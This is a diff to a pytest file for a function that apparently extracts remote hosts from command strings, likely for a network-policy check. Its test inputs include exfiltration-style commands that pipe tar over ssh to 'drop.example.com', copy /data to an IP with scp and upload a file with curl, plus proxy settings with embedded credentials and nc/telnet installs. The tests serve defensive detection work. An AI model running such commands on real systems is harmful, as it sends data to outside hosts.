@@ -25,6 +25,10 @@ from falaj.policies.reading.told import far_ends, is_link, without_scheme
         ("--db-host=in.example.com --listen-host=own.example.com", ["//in.example.com"]),
         ("python -c 'host=os.environ[1]; endpoint = urllib.parse.urlsplit(x)'", []),
         ("import os\nserver = module.name\n", []),
+        ("--email-address first.last@bank.ae emailAddress=first.last@bank.ae", []),
+        ("--proxy first.last@drop.example.com", ["//drop.example.com"]),
+        ("--proxy=me:word@drop.example.com", ["//drop.example.com"]),
+        ("no_proxy=a.example.com,b.example.com --no-proxy c.example.com", []),
         ("Data Source=app.db; server=log4j2.xml; --main com.example.Main --version 1.2.3.4", []),
         ("handlers.main:app 12.30:45 python:3.12 team@example.com", []),
     ],
@@ -36,6 +40,9 @@ def test_hosts_without_a_scheme(given: str, hosts: list[str]) -> None:
 @pytest.mark.parametrize(
     ("given", "hosts"),
     [
+        ("*.* @@in.example.com:514\nauth.info\t@in.example.com\n", ["in.example.com"]),
+        ("import os.path\n\n@app.route('/x')\ndef f():\n    return flask.x\n@app.get('/y')\n", []),
+        ("RUN sudo apt-get install -y nc lib.amd64\nsudo yum install telnet glibc.i686", []),
         ("tar c . | ssh ops@drop.example.com tar x", ["drop.example.com"]),
         ("scp -r /data ops@8.8.4.4:/in", ["8.8.4.4"]),
         ("curl -T f https://in.example.com/x", ["https://in.example.com/x"]),
